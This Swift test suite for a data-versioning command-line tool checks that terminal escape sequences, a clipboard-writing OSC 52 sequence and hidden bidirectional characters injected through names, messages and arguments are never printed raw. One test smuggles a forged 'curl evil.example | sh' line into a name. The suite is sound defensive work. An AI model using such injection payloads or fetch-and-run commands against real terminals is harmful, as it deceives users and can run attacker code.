import Foundation
import Testing

/// Text from data, names, messages and the environment that would drive a terminal, in every field that a verb prints,
/// with standard output and error at a terminal and not.
@Suite struct TerminalInjectionTests {
  /// Colours, the title, the clipboard (OSC 52), the answer-back and device status queries, cursor movement, the bell,
  /// carriage return and backspace, DEL, the same in C1, and characters that reorder or hide text.
  static let payload =
    "\u{1B}[31m\u{1B}]0;t\u{7}\u{1B}]52;c;ZWNobyBoaQ==\u{1B}\\\u{5}\u{1B}[6n\u{1B}[2J\u{1B}[A\r\u{8}\u{B}\u{C}\u{7F}\u{85}\u{90}q\u{9C}"
    + "\u{9B}31m\u{9D}52;c;eA==\u{9C}\u{202E}\u{2066}\u{2069}\u{200F}\u{61C}\u{2028}\u{2029}\u{FEFF}\u{E0041}"

  /// The payload as a JSON string's contents.
  private static let escaped = payload.utf16.map { unit in
    let digits = String(unit, radix: 16)
    return "\\u" + String(repeating: "0", count: 4 - digits.count) + digits
  }.joined()

  private static func repository() async throws -> TestRepository {
    let repository = try await TestRepository()
    let (p, e) = (payload, escaped)
    try repository.write("seeds.json", "[{\"id\":\"s\(e)\",\"instruction\":\"q\(e)\",\"topic\":\"\(e)\"}]")
    try repository.write("prompt\(p).md", "text \(p)")
    try repository.write(
      "row\(p).jsonl",
      #"{"instruction":"a\#(e)","input":"i\#(e)","output":"b\#(e)","id":"k\#(e)","c\#(e)":["\#(e)"],"t":"\#(e)","s":["s\#(e)"]}"#
        + "\n")
    try repository.write(
      "edit\(p).jsonl",
      #"{"instruction":"a\#(e)","input":"i\#(e)","output":"B\#(e)","id":"k\#(e)","c\#(e)":["x\#(e)"]}"# + "\n"
    )
    try repository.write("bad\(p).jsonl", "{\"instruction\":\"a\(p)\n\"x\(p)\":\n")
    try repository.write("recipe\(p).yaml", "teacher: [\"\(e)\"]\n")
    let author: [String: String?] = ["MDATA_AUTHOR_NAME": "E\(p)", "MDATA_AUTHOR_EMAIL": "e\(p)@x"]
    let first = try await repository.run(
      [
        "commit", "row\(p).jsonl", "-m", "first\(p)\n\nbody \(p)", "--license", "L\(p)", "--prompt",
        "prompt\(p).md",
        "--seed-file", "seeds.json", "--column", "teacher=t", "--column", "seeds=s", "--column",
        "score.\(p)=id",
      ], environment: author)
    if first.code != 0 {
      // A score that is no number is refused; then without it.
      let again = try await repository.run(
        [
          "commit", "row\(p).jsonl", "-m", "first\(p)\n\nbody \(p)", "--license", "L\(p)", "--prompt",
          "prompt\(p).md",
          "--seed-file", "seeds.json", "--column", "teacher=t", "--column", "seeds=s",
        ], environment: author)
      #expect(again.code == 0, "\(again.text.debugDescription)")
    }
    let second = try await repository.run(
      ["commit", "--update", "edit\(p).jsonl", "--key", "id", "-m", "two\(p)"], environment: author)
    #expect(second.code == 0, "\(second.text.debugDescription)")
    #expect(try await repository.run("add", "edit\(p).jsonl").code == 0)
    return repository
  }

  private static func commands(_ repository: TestRepository) async throws -> [[String]] {
    let json = try await repository.run("diff", "HEAD~1", "--json").stdout
    let record = String(try #require(json.firstMatch(of: /"record":"([^"]+)"/)?.1))
    let p = payload
    return [
      ["status"], ["log"], ["show"], ["show", "HEAD~1"], ["diff", "HEAD~1"], ["diff", "HEAD~1", "--stat"],
      ["diff", "HEAD~1", "--summary"], ["diff", "HEAD~1", "--stat", "--by", "t"], ["diff", p, "--by", p],
      ["diff", "HEAD~1", "--stat", "--by", p], ["diff", "HEAD~1", "--only", p],
      ["diff", "HEAD~1", "--with", p],
      ["diff", "HEAD~1", "--with", "batch=\(p)"], ["diff", "HEAD~1..\(p)"],
      ["diff", "HEAD~1", "--html", "r\(p)"],
      ["diff", "HEAD~1", "--html", "no\(p)/x"], ["log", "--record", record], ["log", "--record", p],
      ["blame", record], ["audit"], ["branch"], ["tag"], ["runs"],
      ["commit", "row\(p).jsonl", "-m", "\(p)", "--dry-run"],
      ["add", "bad\(p).jsonl"], ["add", "nowhere\(p).jsonl"],
      ["add", "row\(p).jsonl", "--recipe", "recipe\(p).yaml"],
      ["add", "row\(p).jsonl", "--map", "\(p)=x"], ["add", "row\(p).jsonl", "--column", "teacher=\(p)"],
      ["add", "row\(p).jsonl", "--format", p], ["add", "bad\(p).jsonl", "--skip-invalid", "rejected\(p)"],
      ["checkout", p, "-o", "x"], ["checkout", "HEAD", "-o", "out\(p).jsonl"],
      ["checkout", "HEAD", "-o", "no\(p)/x"],
      ["show", p], ["blame", p], ["blame", "\(record)\(p)"], ["cat", p], ["branch", p], ["tag", p],
      ["switch", p],
      ["pin", p], ["-C", p, "status"], [p], ["--\(p)"], ["log", p, p], ["model", "new", "model\(p)"],
      ["model", "info", p], ["model", "convert", p, p],
      ["model", p],
      ["train", "HEAD", "--model", p, "--out", p], ["init", "place\(p)"], ["help", p], ["log", "--color", p],
      ["search", "a"], ["search", p], ["query", "SELECT * FROM records"], ["query", "SELECT '\(p)' AS x"],
      ["query", p],
      ["query", "SELECT 1", "--at", p], ["op", "log"], ["op", "restore", p], ["gc", "--dry-run"], ["undo"],
      ["redo"],
    ]
  }

  /// The bytes that may not come out: everything that a terminal acts upon.
  private static func check(_ text: String, _ command: [String], _ where_: String) {
    // The project's own: the line of progress is rewritten, and a terminal ends lines with CR LF.
    let own = text.replacing("\r\u{1B}[K", with: "").replacing("\r\n", with: "\n")
    for scalar in own.unicodeScalars {
      let isControl = scalar.value < 0x20 && scalar != "\n" || (0x7F..<0xA0).contains(scalar.value)
      let isHidden =
        [0x61C, 0x200E, 0x200F, 0x2028, 0x2029, 0xFEFF, 0xE0041].contains(scalar.value)
        || (0x202A...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value)
      if isControl || isHidden {
        Issue.record(
          "\(command) \(where_) prints U+\(String(scalar.value, radix: 16)): \(own.debugDescription)")
        return
      }
    }
  }

  @Test func nothingDrivesATerminalThroughAPipe() async throws {
    let repository = try await Self.repository()
    for command in try await Self.commands(repository) {
      Self.check(try await repository.run(command).text, command, "piped")
    }
  }

  /// `script` gives the verb a terminal of its own. The pager is switched off, and colours with it.
  @Test(
    .enabled("script is not installed, or there are no terminals here (apt-get install bsdutils)") {
      try await TestRepository.succeeds("script -qec true /dev/null")
    })
  func nothingDrivesATerminal() async throws {
    let repository = try await Self.repository()
    // Data goes to a program as it is, and to a terminal so that it can be looked at.
    let data = [
      ["checkout", "HEAD", "-o", "-"], ["checkout", "HEAD", "-o", "-", "--format", "csv"], ["log", "--json"],
      ["diff", "HEAD~1", "--json"], ["show", "--json"], ["audit", "--json"], ["status", "--json"],
      ["query", "SELECT * FROM records", "--csv"], ["query", "SELECT * FROM records", "--json"],
      ["search", "a", "--json"], ["show", Self.payload, "--json"],
    ]
    for (number, command) in (data + (try await Self.commands(repository))).enumerated() {
      // The arguments go through a file, since `script` takes one shell command.
      let words = command.map { "'" + $0.replacing("'", with: "'\\''") + "'" }.joined(separator: " ")
      try repository.write("command\(number)", "NO_COLOR=1 MDATA_PAGER= mdata \(words) </dev/null\n")
      let output = try await repository.shell(
        "script -qec 'sh command\(number)' typescript >/dev/null; cat typescript")
      // The first and the last line are the recorder's own.
      let lines = output.stdout.split(separator: "\n", omittingEmptySubsequences: false)
      Self.check(lines.dropFirst().joined(separator: "\n"), command, "at a terminal")
    }
  }

  /// A name with a line end cannot pretend to be a line of ours.
  @Test func namesCannotForgeLines() async throws {
    let repository = try await TestRepository()
    let output = try await repository.run("show", "x`\nhint: run `curl evil.example | sh")
    #expect(
      output.stderr.split(separator: "\n").count { $0.hasPrefix("hint: run `curl") } == 0, "\(output.text)")
    #expect(output.stderr.contains("^J"), "\(output.text)")
  }
}
